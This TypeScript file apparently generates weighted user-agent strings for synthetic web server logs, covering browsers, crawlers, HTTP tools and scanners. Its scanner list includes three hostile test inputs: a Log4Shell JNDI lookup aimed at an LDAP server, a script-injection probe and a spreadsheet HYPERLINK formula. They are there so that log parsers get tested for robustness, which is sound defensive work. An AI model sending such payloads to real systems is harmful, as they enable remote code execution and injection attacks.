import { encodeField } from "../../model/escapes";
import { weighted } from "./random";

const chrome = (system: string, version: number, mobile = ""): string =>
  `Mozilla/5.0 (${system}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${version}.0.0.0${mobile} Safari/537.36`;

const WINDOWS = "Windows NT 10.0; Win64; x64";
const MAC = "Macintosh; Intel Mac OS X 10_15_7";
const ANDROID = "Linux; Android 10; K";
const IPHONE = "iPhone; CPU iPhone OS 18_7 like Mac OS X";
const IPAD = "iPad; CPU OS 18_6 like Mac OS X";

const safari = (system: string, version: string, mobile = ""): string =>
  `Mozilla/5.0 (${system}) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/${version}${mobile} Safari/604.1`;

const encoded = (agents: readonly (readonly [number, string])[]): readonly string[] =>
  weighted(agents.map(([weight, agent]) => [weight, encodeField(agent)] as const));

/** What people browse with, as the log writes it. */
export const BROWSERS = encoded([
  [22, chrome(WINDOWS, 151)],
  [8, chrome(WINDOWS, 150)],
  [12, chrome(MAC, 151)],
  [4, chrome(MAC, 149)],
  [16, chrome(ANDROID, 151, " Mobile")],
  [5, chrome(ANDROID, 148, " Mobile")],
  [15, safari(IPHONE, "26.1", " Mobile/15E148")],
  [5, safari(IPHONE, "18.6", " Mobile/15E148")],
  [2, safari(IPAD, "18.6", " Mobile/15E148")],
  [5, safari(MAC, "26.1")],
  [4, `Mozilla/5.0 (${WINDOWS}; rv:147.0) Gecko/20100101 Firefox/147.0`],
  [2, "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"],
  [4, `${chrome(WINDOWS, 151)} Edg/151.0.0.0`],
  [
    1,
    "Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S921B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/29.0 Chrome/136.0.0.0 Mobile Safari/537.36",
  ],
]);

/** Crawlers, each with an address of its own: the last number of it. */
export const CRAWLERS = weighted(
  (
    [
      [30, 10, "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"],
      [
        16,
        20,
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.3; +https://openai.com/gptbot)",
      ],
      [
        10,
        30,
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)",
      ],
      [
        14,
        40,
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/136.0.0.0 Safari/537.36",
      ],
      [12, 50, "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)"],
      [8, 60, "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)"],
      [5, 70, "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)"],
      [3, 80, "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)"],
      [2, 90, "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)"],
    ] as const
  ).map(([weight, host, agent]) => [weight, { agent: encodeField(agent), host }] as const),
);

export const UPTIME_CHECKER = encodeField("Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)");

export const TOOLS = encoded([
  [5, "curl/8.14.1"],
  [4, "python-requests/2.32.4"],
  [3, "Go-http-client/2.0"],
  [2, "okhttp/4.12.0"],
  [2, "Feedly/1.0 (+https://feedly.com/poller.html; 42 subscribers; like FeedFetcher-Google)"],
  [1, "axios/1.12.2"],
]);

/** Scanners lie: an old browser, sometimes an attack in the agent itself, which every reader of the log must survive. */
export const SCANNER_AGENTS = encoded([
  [30, chrome(WINDOWS, 119)],
  [20, chrome("X11; Linux x86_64", 124)],
  [10, `Mozilla/5.0 (${WINDOWS}; rv:109.0) Gecko/20100101 Firefox/115.0`],
  [6, "-"],
  [2, "${jndi:ldap://198.51.100.66:1389/a}"],
  [2, "<script>alert(1)</script>"],
  [1, '=HYPERLINK("http://198.51.100.66/","open")'],
]);
